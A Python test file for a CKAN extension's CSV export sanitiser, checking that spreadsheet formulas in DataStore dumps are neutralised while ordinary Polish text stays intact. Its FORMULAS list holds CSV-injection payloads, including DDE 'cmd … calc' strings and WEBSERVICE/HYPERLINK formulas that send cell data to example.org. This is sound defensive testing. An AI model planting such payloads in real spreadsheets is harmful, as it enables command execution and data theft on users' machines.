"""Dumps of the DataStore: no cell is a formula, and nothing else changes."""

import csv
import io
import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ckanext.leszno_ngo import text
from ckanext.leszno_ngo.exports import safe_csv

CELLS = st.text(st.sampled_from("=+-@\"',;|:\t\r\n 1aż"), max_size=6)


def written(rows, delimiter=","):
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return file.getvalue()


def read(file, delimiter=","):
    return list(csv.reader(io.StringIO(file, newline=""), delimiter=delimiter))


@given(
    rows=st.lists(st.lists(CELLS, min_size=2, max_size=3), max_size=4),
    size=st.integers(1, 9),
    delimiter=st.sampled_from(",\t"),
)
def test_only_formulas_get_an_apostrophe(rows, size, delimiter):
    file = written(rows, delimiter).encode()
    pieces = [file[at : at + size] for at in range(0, len(file), size)]
    safe = b"".join(safe_csv.stream(pieces, delimiter)).decode()
    for before, after in zip(rows, read(safe, delimiter), strict=True):
        for cell, shown in zip(before, after, strict=True):
            inside = text.without_formulas_inside(cell)
            assert shown in (inside, f"'{inside}")
            assert text.safe_cell(shown).lstrip("'") == text.safe_cell(cell).lstrip("'")
            assert (shown != inside) == (text.safe_cell(cell)[:1] == "'" and cell[:1] != "'")


FORMULAS = [
    "=1+1",
    '"=1+1',
    " =HYPERLINK(A1)",
    "+cmd|' /C calc'!A0",
    "+cmd|'/C calc;x,y'!A0",
    "-cmd|a!b",
    "@SUM(A1)",
    "-1+SUM(A1)",
    "- SUM( $A$1 )",
    "-sum(a1:b2)*2",
    "+SUM(A:A)",
    "+SUM(1+1)",
    "-RAND()",
    "-LOG10(A1)",
    '+HYPERLINK("http://example.org/(?"&A1)',
    "+WEBSERVICE(CHAR(104)&A1)",
    "+HYPERLINK(adres&A1)",
    '+IF(TRUE-FALSE;WEBSERVICE("http://example.org"&A1))',
    "+IF((TRUE),WEBSERVICE(A1))",
    "+Arkusz2!A1",
    "-Arkusz2!$A$1",
    *("@SUM(1;1)", "+SUM(1,1)", "-SUM(1\t1)", '+IF(TRUE;"a";2)', "@IF((1);2)", "-1+SUM(1;1)"),
]


def split(line, delimiter):
    """The cells of a program that splits at a delimiter; quotes count at a cell's beginning."""
    cells = re.split(f"[{re.escape(delimiter)}\r\n]", line)
    return [cell.strip().lstrip('"') for cell in cells]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", ",\t")
def test_no_other_delimiter_makes_a_formula(formula, delimiter):
    cells = [[f"x{other}{formula}{other}y"] for other in ";,\t\n\r" if other != delimiter]
    safe = b"".join(safe_csv.stream([written(cells, delimiter).encode()], delimiter)).decode()
    for other in ";,\t":
        starts = {cell[:1] for cell in split(safe, other)}
        assert not starts & set("=+-@"), (other, safe)


@pytest.mark.parametrize("other", "|:^~")
def test_nor_does_one_that_is_chosen_when_the_file_is_opened(other):
    whole = [formula for formula in FORMULAS if other not in formula]  # others are taken apart
    for before, formula in itertools.product(("x", "x;-5", "x,", "a\n"), whole):
        cell = text.without_formulas_inside(f"{before}{other}{formula}{other} y")
        assert not {part[:1] for part in split(cell, other)} & set("=+-@"), cell


HONEST = [
    "655 298 100;+48 601 000 000",
    "12,- zł; 5,-zł",
    "cele:\n- sport\n-kultura (dzieci)\n",
    "a;-5;-3,5",
    "https://www.leszno.pl/?a=1;b=2,c=3",
    ";-) i ;-(",
    "a; = ;b",
    "kontakt@leszno.pl,@leszno",
    "Kadra:\n- opiekun(ka) świetlicy",
    "Kadra:\n- opiekun(ka)\n- uczestnik(czka)\n-Pan(i)\n- spółka(i)",
    "- lider\n- opiekun(-ka), trener(ka/zy)",
    "65 529 81 00, +48(65)5298101",
    "Godziny:\n- pn 8–16 | wt 10–18",
    "Godziny:\n- pn 8–16 | wt 10–18 – zapraszamy!",
    "Terminy:\n- Uwaga!zapisy",
    "tel.:+48 65 529 81 00, wew. (3)|-opiekun(ka), - trener(ka); ^+48(65)5298101; 102",
    "tel.:+48 65 529 81 00|-5|- opiekun(ka)|@leszno",
    "od 10:-; temp.: -5 ^-2, ~-3, :-(a) :=)",
    "Zajęcia:\n- dzieci (7-12)\n- seniorzy(60+ lat)",
]


@pytest.mark.parametrize("cell", HONEST)
def test_what_is_no_formula_stays(cell):
    assert text.without_formulas_inside(cell) == cell


def test_the_mark_of_utf_8_stays_in_front():
    safe = b"".join(safe_csv.stream(["\ufeff=1,-5\r\n".encode()]))
    assert safe.decode() == '\ufeff"\'=1",-5\r\n'
